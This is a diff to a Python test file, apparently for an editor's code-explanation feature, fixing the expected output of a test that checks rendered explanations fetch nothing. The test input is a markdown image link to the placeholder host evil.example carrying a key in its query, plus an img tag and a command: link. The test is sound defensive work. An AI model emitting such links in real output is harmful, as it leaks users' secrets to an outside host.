@@ -59,7 +59,7 @@ async def test_the_function_at_the_cursor_is_explained_line_by_line() -> None:
 
 async def test_an_explanation_fetches_nothing() -> None:
     on = stage(TEXT, [["![x](https://evil.example/?q=", "KEY) <img src=x>\n[y](command:run)"]])
-    assert (await explained(on)).markdown == "[x] (`https://evil.example/?q=KEY)` &lt;img src=x>\n[y] (`command:run)`"
+    assert (await explained(on)).markdown == "[x] (`https://evil.example/?q=KEY`) &lt;img src=x>\n[y] (`command:run`)"
 
 
 async def test_a_question_that_follows_keeps_the_conversation() -> None:
